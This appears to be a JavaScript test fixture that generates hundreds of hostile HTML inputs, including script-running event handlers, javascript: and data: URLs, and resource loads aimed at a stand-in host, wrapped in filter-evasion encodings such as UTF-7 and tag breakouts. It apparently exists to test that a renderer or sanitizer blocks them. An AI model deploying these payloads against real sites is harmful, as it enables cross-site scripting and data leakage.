// Five hundred tries to make a page run, load, send or lead away: what is tried, times the ways to write it.
import { hostileKmlTexts, hostileRefresh } from './hostile.js';

/** What is tried; `away` is the address of a server that nobody may reach. */
function attempts(away) {
  return [
    ...hostileKmlTexts, hostileRefresh,
    `<link rel="preconnect" href="${away}/">`, `<link rel="dns-prefetch" href="${away}/"><link rel="prefetch" href="${away}/p">`,
    `<link rel="preload" as="image" href="${away}/l"><link rel="modulepreload" href="${away}/m">`,
    `<link rel="prerender" href="${away}/r"><link rel="icon" href="${away}/i"><link rel="manifest" href="${away}/w">`,
    `<iframe src="${away}/f"></iframe>`, `<frameset><frame src="${away}/s"></frameset>`, `<img srcset="${away}/1.png 1x">`,
    `<img src="${away}/b.png">`, `<video autoplay src="${away}/v"></video><audio src="${away}/a" autoplay></audio>`,
    `<svg><image href="${away}/g"/><use href="${away}/u#x"/></svg>`,
    '<svg><animate onbegin=hostileRan("animate") attributeName=x dur=1s></svg>',
    '<svg><a href="javascript:hostileRan(5)"><text class="bait" y="9">x</text></a></svg>',
    '<math><a xlink:href="javascript:hostileRan(6)" class="bait">x</a></math>',
    `<style>@font-face { font-family: x; src: url(${away}/x.woff) } * { font-family: x; background: url(${away}/y) }</style>`,
    `<b style="background: url(${away}/z)">x</b>`, `<table background="${away}/t"><td background="${away}/d">x</table>`,
    `<a class="bait" ping="${away}/ping" href="#">x</a>`, `<form id="f" action="${away}/f"></form><button form="f" class="bait">x</button>`,
    `<button class="bait" formaction="${away}/g">x</button>`, '<input type="image" src="x" onerror=hostileRan("input")>',
    '<body onload=hostileRan("body") onpageshow=hostileRan("show")>', '<marquee onstart=hostileRan("marquee")>x</marquee>',
    '<object data="data:text/html,<script>parent.hostileRan(7)</script>"></object>',
    '<embed src="data:text/html,<script>parent.hostileRan(8)</script>">',
    '<iframe src="data:text/html,<script>parent.hostileRan(9)</script>"></iframe>',
    `<script type="speculationrules">{"prerender":[{"urls":["${away}/q"]}]}</script>`,
    '<script type="importmap">{"imports":{"x":"data:text/javascript,hostileRan(10)"}}</script><script type="module">import "x"</script>',
    '<template shadowrootmode="open"><script>hostileRan("shadow")</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=hostileRan(11)>">', '<select><script>hostileRan("select")</script></select>',
    '<xml id=x><a onmouseover=hostileRan("xml") class="bait">x</a></xml>', `<meta http-equiv="Link" content="<${away}/k>; rel=preload">`,
    '<meta http-equiv="Set-Cookie" content="a=b"><meta charset="utf-7">', `<isindex action="${away}/n" type=image>`,
    '<dialog open><form method="dialog"><button class="bait" onclick=hostileRan("dialog")>x</button></form></dialog>',
  ];
}

const asciiAsUtf7 = (text) => `+${Buffer.from(text, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
const reference = (text, write) => text.replace(/[<>"'&(]/g, (character) => write(character.charCodeAt(0)));

/** Ways to write it, most of them to get past whoever looks for "<script" alone. */
const ways = [
  (text) => text,
  (text) => text.replace(/<(\/?)(\w+)/g, (_, end, name) => `<${end}${[...name].map((each, i) => (i % 2 ? each : each.toUpperCase())).join('')}`),
  (text) => `">'></td></tr></table></div>${text}<table><tr><td>`,
  (text) => `</title></style></textarea></script></noscript>-->]]>${text}<!--`,
  (text) => text.replace(/<(\w+) /g, '<$1/\t/\f'),
  (text) => text.replace(/<(\w)/g, '<\x1b(B$1').replace(/javascript:/g, 'java\tscript&colon;'),
  (text) => `<plaintext hidden><!--><svg><desc>${text}`,
  (text) => `${asciiAsUtf7(text)}${reference(text, (code) => `&#x${code.toString(16)};`)}${reference(text, (code) => `%${code.toString(16)}`)}`,
];

/**
 * `count` of them, no two alike, none with a sign that a line of a logbook cannot hold. Each knows a server of its own by which
 * it can be told: `away(i)`.
 */
export function tries(count, away) {
  const mark = 'http://away.example';
  const all = new Set(ways.flatMap((write) => attempts(mark).map((text) => write(text).replace(/[|\r\n]/g, ' '))));
  if (all.size < count) throw new Error(`only ${all.size} tries`);
  return [...all].slice(0, count).map((text, i) => text.replaceAll(mark, away(i)));
}
